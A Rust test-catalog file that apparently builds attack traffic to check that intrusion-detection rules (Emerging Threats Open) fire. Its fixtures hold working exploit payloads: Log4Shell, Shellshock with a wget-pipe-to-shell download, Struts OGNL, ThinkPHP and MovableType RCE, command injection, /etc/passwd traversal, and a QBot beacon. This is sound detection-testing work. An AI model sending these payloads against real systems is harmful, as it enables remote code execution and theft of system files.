//! Attacks aimed at Emerging Threats Open rules (the April 2024 snapshot in
//! `../shared/rules/et-open-2024`), one targeted rule each. Unlike the
//! bundled catalog ([`super::attacks`]) these prove that the app-layer
//! parsers, buffers and keyword semantics catch real-world signatures:
//! every rule chosen is enabled, needs no flowbits set by another rule, and
//! has a header the traffic fits with the default variables (HOME_NET is
//! RFC 1918: the mirrored ENIs are 10.0.x.10, the other side is public;
//! HTTP runs on port 80).

/// mod_ssl's default localhost.crt names itself as subject and issuer.
const MOD_SSL_DEFAULT_DN: &[(&str, &str)] = &[
    ("C", "--"),
    ("ST", "SomeState"),
    ("L", "SomeCity"),
    ("O", "SomeOrganization"),
    ("OU", "SomeOrganizationalUnit"),
    ("CN", "localhost.localdomain"),
];

/// How an ET attack is put on the wire. HTTP and TLS run over TCP; the
/// alerting direction decides which side the ground truth names as source.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum EtDelivery {
    /// External client -> HOME_NET server on port 80: the requests in
    /// order on one keep-alive connection, each answered with a 404.
    HttpInbound { requests: &'static [&'static str] },
    /// External client -> HOME_NET server on port 80; the server's answer
    /// is what alerts (to_client).
    HttpLeak { request: &'static str, response: &'static str },
    /// HOME_NET client -> external server on port 80.
    HttpOutbound { request: &'static str },
    /// HOME_NET client -> external server on 443; the ClientHello alerts.
    TlsHello { hello: Hello },
    /// HOME_NET client -> external server on 443 (TLS 1.2, so the
    /// certificate is in clear); the server's Certificate message alerts.
    /// Names are (attribute, value) pairs, attributes C, ST, L, O, OU, CN.
    TlsCert {
        sni: &'static str,
        subject: &'static [(&'static str, &'static str)],
        issuer: &'static [(&'static str, &'static str)],
    },
    /// HOME_NET client -> the VPC resolver on port 53, an A query, over UDP
    /// or (length-prefixed) TCP.
    Dns { name: &'static str, tcp: bool },
}

/// The ClientHello a TLS attack sends.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Hello {
    /// A browser-like hello with this server_name.
    Sni(&'static str),
    /// A hello whose JA3 string is exactly this (version, ciphers,
    /// extension types, groups, point formats), as the fingerprinted tool
    /// sends it.
    Ja3(&'static str),
}

#[derive(Debug, Clone, Copy)]
pub struct EtAttack {
    pub name: &'static str,
    /// The ET Open rule that must detect it.
    pub sid: u32,
    /// That rule's `msg`, as alerts carry it.
    pub msg: &'static str,
    /// The ET Open file holding the rule.
    pub rule_file: &'static str,
    pub delivery: EtDelivery,
}

impl EtAttack {
    /// Whether the targeted rule alerts on the server's side of the flow.
    pub fn to_client(&self) -> bool {
        matches!(self.delivery, EtDelivery::HttpLeak { .. } | EtDelivery::TlsCert { .. })
    }

    pub fn app_proto(&self) -> &'static str {
        match self.delivery {
            EtDelivery::HttpInbound { .. } | EtDelivery::HttpLeak { .. } | EtDelivery::HttpOutbound { .. } => "http",
            EtDelivery::TlsHello { .. } | EtDelivery::TlsCert { .. } => "tls",
            EtDelivery::Dns { .. } => "dns",
        }
    }
}

/// The catalog. Payloads follow what the tools, exploits and malware send
/// (shortened); the rule texts are in the files named.
pub const ET_ATTACKS: &[EtAttack] = &[
    EtAttack {
        name: "et-http-log4shell-uri-obfuscated",
        sid: 2_045_126,
        msg: "ET EXPLOIT Apache log4j RCE Attempt (http) (Inbound) (CVE-2021-44228)",
        rule_file: "emerging-exploit.rules",
        // The ${::-x} lookups spell "jndi:ldap" past naive filters.
        delivery: EtDelivery::HttpInbound {
            requests: &["GET /${${::-j}${::-n}${::-d}${::-i}${::-:}${::-l}${::-d}${::-a}${::-p}://c7b9x2.notburpcollaborator.net/Basic/Command/Base64/aWQ=} HTTP/1.1\r\nHost: app.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\nAccept: */*\r\n\r\n"],
        },
    },
    EtAttack {
        name: "et-http-sqlmap-user-agent",
        sid: 2_008_538,
        msg: "ET SCAN Sqlmap SQL Injection Scan",
        rule_file: "emerging-scan.rules",
        delivery: EtDelivery::HttpInbound {
            requests: &["GET /products.php?id=1%20AND%201234%3D1234 HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: sqlmap/1.8.3#stable (https://sqlmap.org)\r\nAccept: */*\r\nAccept-Encoding: gzip,deflate\r\nConnection: keep-alive\r\n\r\n"],
        },
    },
    EtAttack {
        name: "et-http-nikto-scan",
        sid: 2_002_677,
        msg: "ET SCAN Nikto Web App Scan in Progress",
        rule_file: "emerging-scan.rules",
        // The rule thresholds (type both, 5 per source in 60 s): Nikto's
        // first probes on one keep-alive connection.
        delivery: EtDelivery::HttpInbound {
            requests: &[
                "GET / HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)\r\nConnection: Keep-Alive\r\n\r\n",
                "GET /ZsXdPLmV.cfm HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)\r\nConnection: Keep-Alive\r\n\r\n",
                "GET /cgi-bin/test-cgi HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)\r\nConnection: Keep-Alive\r\n\r\n",
                "GET /.git/HEAD HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:006723)\r\nConnection: Keep-Alive\r\n\r\n",
                "GET /server-status HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:003233)\r\nConnection: Keep-Alive\r\n\r\n",
                "GET /phpinfo.php HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:004123)\r\nConnection: Keep-Alive\r\n\r\n",
            ],
        },
    },
    EtAttack {
        name: "et-http-etc-passwd-traversal",
        sid: 2_049_400,
        msg: "ET WEB_SERVER /etc/passwd Detected in URI",
        rule_file: "emerging-web_server.rules",
        delivery: EtDelivery::HttpInbound {
            requests: &["GET /download.php?file=..%2f..%2f..%2f..%2fetc%2fpasswd HTTP/1.1\r\nHost: files.example.com\r\nUser-Agent: python-requests/2.31.0\r\nAccept: */*\r\n\r\n"],
        },
    },
    EtAttack {
        name: "et-http-shellshock-header",
        sid: 2_019_232,
        msg: "ET WEB_SERVER Possible CVE-2014-6271 Attempt in Headers",
        rule_file: "emerging-web_server.rules",
        delivery: EtDelivery::HttpInbound {
            requests: &["GET /cgi-bin/status HTTP/1.1\r\nHost: legacy.example.com\r\nUser-Agent: () { :; }; /bin/bash -c 'wget -qO- http://203.0.113.66/x.sh | sh'\r\nAccept: */*\r\n\r\n"],
        },
    },
    EtAttack {
        name: "et-http-thinkphp-invokefunction",
        sid: 2_026_731,
        msg: "ET WEB_SERVER ThinkPHP RCE Exploitation Attempt",
        rule_file: "emerging-web_server.rules",
        delivery: EtDelivery::HttpInbound {
            requests: &["GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP HTTP/1.1\r\nHost: cms.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36\r\nAccept: */*\r\n\r\n"],
        },
    },
    EtAttack {
        name: "et-http-struts-s2-045-content-type",
        sid: 2_024_045,
        msg: "ET WEB_SPECIFIC_APPS Possible Apache Struts OGNL Expression Injection (CVE-2017-5638) M3",
        rule_file: "emerging-web_specific_apps.rules",
        delivery: EtDelivery::HttpInbound {
            requests: &["GET /struts2-showcase/index.action HTTP/1.1\r\nHost: erp.example.com\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}\r\nAccept: */*\r\n\r\n"],
        },
    },
    EtAttack {
        name: "et-http-passwd-leak-response",
        sid: 2_002_034,
        msg: "ET ATTACK_RESPONSE Possible /etc/passwd via HTTP (linux style)",
        rule_file: "emerging-attack_response.rules",
        delivery: EtDelivery::HttpLeak {
            request: "POST /api/diagnostics HTTP/1.1\r\nHost: app.example.com\r\nUser-Agent: curl/8.5.0\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 25\r\n\r\nhost=127.0.0.1;cat+/etc/*",
            response: "HTTP/1.1 200 OK\r\nServer: Apache/2.4.58\r\nContent-Type: text/plain\r\nContent-Length: 133\r\n\r\nroot:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n",
        },
    },
    EtAttack {
        name: "et-http-qbot-c2-user-agent",
        sid: 2_030_149,
        msg: "ET USER_AGENTS Possible QBot User-Agent",
        rule_file: "emerging-user_agents.rules",
        delivery: EtDelivery::HttpOutbound {
            request: "POST /t3 HTTP/1.1\r\nAccept: application/x-shockwave-flash, image/gif, image/jpeg, */*\r\nUser-Agent: MelindaMelinda\r\nHost: 198.51.100.23\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 25\r\nCache-Control: no-cache\r\n\r\nqxfcpk=Gq8y1Vx0bmQ2dTNvZQ",
        },
    },
    EtAttack {
        name: "et-tls-sni-transfer-sh",
        sid: 2_035_145,
        msg: "ET INFO Commonly Abused File Sharing Site Domain Observed (transfer .sh in TLS SNI)",
        rule_file: "emerging-info.rules",
        delivery: EtDelivery::TlsHello { hello: Hello::Sni("transfer.sh") },
    },
    EtAttack {
        name: "et-tls-ja3-sqlmap",
        sid: 2_028_468,
        msg: "ET JA3 Hash - sqlmap (tested: v1.0.7.0 OS X)",
        rule_file: "emerging-ja3.rules",
        // JA3 1ab5d0f756e0692a975fda9a6474969f: TLS 1.0, ten suites, only
        // the session ticket extension (Python 2 ssl without SNI).
        delivery: EtDelivery::TlsHello { hello: Hello::Ja3("769,57-56-51-50-22-19-53-47-10-255,35,,") },
    },
    EtAttack {
        name: "et-tls-cert-metasploit-ca",
        sid: 2_031_932,
        msg: "ET HUNTING Observed Suspicious SSL Cert (Metasploit Self Signed CA)",
        rule_file: "emerging-hunting.rules",
        delivery: EtDelivery::TlsCert {
            sni: "cdn-updates.example.net",
            subject: &[("C", "US"), ("ST", "TX"), ("L", "Austin"), ("O", "Rainbow Systems"), ("CN", "cdn-updates.example.net")],
            issuer: &[("CN", "MetasploitSelfSignedCA")],
        },
    },
    EtAttack {
        name: "et-tls-cert-default-ou",
        sid: 2_013_659,
        msg: "ET POLICY Self Signed SSL Certificate (SomeOrganizationalUnit)",
        rule_file: "emerging-policy.rules",
        // mod_ssl's default localhost.crt, as forgotten on many C2 servers.
        delivery: EtDelivery::TlsCert {
            sni: "203.0.113.80",
            subject: MOD_SSL_DEFAULT_DN,
            issuer: MOD_SSL_DEFAULT_DN,
        },
    },
    EtAttack {
        name: "et-dns-log4shell-callback",
        sid: 2_034_825,
        msg: "ET ATTACK_RESPONSE DNS Query for Observed CVE-2021-44228 Callback Domain (notburpcollaborator .net)",
        rule_file: "emerging-attack_response.rules",
        delivery: EtDelivery::Dns { name: "c7b9x2.notburpcollaborator.net", tcp: false },
    },
    EtAttack {
        name: "et-http-movabletype-xmlrpc-base64-rce",
        sid: 2_034_366,
        msg: "ET EXPLOIT Possible MovableTypePoC RCE Inbound (CVE-2021-20837)",
        rule_file: "emerging-exploit.rules",
        // The command rides base64 in an XML-RPC value: base64_decode and
        // base64_data find its backtick.
        delivery: EtDelivery::HttpInbound {
            requests: &["POST /cgi-bin/mt/mt-xmlrpc.cgi HTTP/1.1\r\nHost: blog.example.com\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: text/xml\r\nContent-Length: 184\r\n\r\n<?xml version=\"1.0\"?><methodCall><methodName>mt.handler_to_coderef</methodName><params><param><value><base64>YHRvdWNoIC90bXAvbXRfcHduZWRg</base64></value></param></params></methodCall>"],
        },
    },
    EtAttack {
        name: "et-dns-interactsh-oast",
        sid: 2_036_893,
        msg: "ET INFO Out-of-Band Interaction Domain in DNS Lookup (oast .fun)",
        rule_file: "emerging-info.rules",
        delivery: EtDelivery::Dns { name: "cn2k8ap0a4c5v5m0tgq0.oast.fun", tcp: false },
    },
    EtAttack {
        name: "et-dns-ngrok-tunnel",
        sid: 2_049_052,
        msg: "ET INFO Observed DNS Query to *.ngrok Domain (ngrok .app)",
        rule_file: "emerging-info.rules",
        delivery: EtDelivery::Dns { name: "7f3a-203-0-113-7.ngrok-free.app", tcp: false },
    },
    EtAttack {
        name: "et-dns-telegram-api-tcp",
        sid: 2_033_966,
        msg: "ET HUNTING Telegram API Domain in DNS Lookup",
        rule_file: "emerging-hunting.rules",
        delivery: EtDelivery::Dns { name: "api.telegram.org", tcp: true },
    },
];

pub fn by_name(name: &str) -> Option<&'static EtAttack> {
    ET_ATTACKS.iter().find(|a| a.name == name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_and_sids_unique() {
        let mut names: Vec<_> = ET_ATTACKS.iter().map(|a| a.name).collect();
        names.sort();
        names.dedup();
        assert_eq!(names.len(), ET_ATTACKS.len());
        let mut sids: Vec<_> = ET_ATTACKS.iter().map(|a| a.sid).collect();
        sids.sort();
        sids.dedup();
        assert_eq!(sids.len(), ET_ATTACKS.len());
    }

    #[test]
    fn covers_http_tls_and_dns() {
        let count = |p: &str| ET_ATTACKS.iter().filter(|a| a.app_proto() == p).count();
        assert!(count("http") >= 8);
        assert!(count("tls") >= 3);
        assert!(count("dns") >= 3);
        assert!(ET_ATTACKS.iter().any(|a| matches!(a.delivery, EtDelivery::Dns { tcp: true, .. })));
    }

    /// Every HTTP message of the catalog, requests and responses.
    fn http_messages() -> Vec<(&'static str, &'static str)> {
        let mut out = Vec::new();
        for a in ET_ATTACKS {
            match a.delivery {
                EtDelivery::HttpInbound { requests } => out.extend(requests.iter().map(|r| (a.name, *r))),
                EtDelivery::HttpLeak { request, response } => out.extend([(a.name, request), (a.name, response)]),
                EtDelivery::HttpOutbound { request } => out.push((a.name, request)),
                _ => {}
            }
        }
        out
    }

    #[test]
    fn http_bodies_match_their_content_length() {
        for (name, msg) in http_messages() {
            let (head, body) = msg.split_once("\r\n\r\n").unwrap_or_else(|| panic!("{name}: no end of headers"));
            let declared = head
                .lines()
                .find_map(|l| l.strip_prefix("Content-Length: "))
                .map(|n| n.trim().parse::<usize>().unwrap_or_else(|_| panic!("{name}: bad Content-Length")));
            assert_eq!(body.len(), declared.unwrap_or(0), "{name}: body length");
            assert!(head.lines().all(|l| !l.is_empty() && !l.contains('\n')), "{name}: header lines");
        }
    }

    #[test]
    fn nikto_requests_carry_its_user_agent() {
        const NIKTO_UA: &str = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)";
        let Some(EtAttack { delivery: EtDelivery::HttpInbound { requests }, .. }) = by_name("et-http-nikto-scan")
        else {
            panic!("nikto attack missing");
        };
        assert!(requests.len() >= 5, "the rule thresholds at 5 per source");
        assert!(requests.iter().all(|r| r.contains(NIKTO_UA)));
    }
}
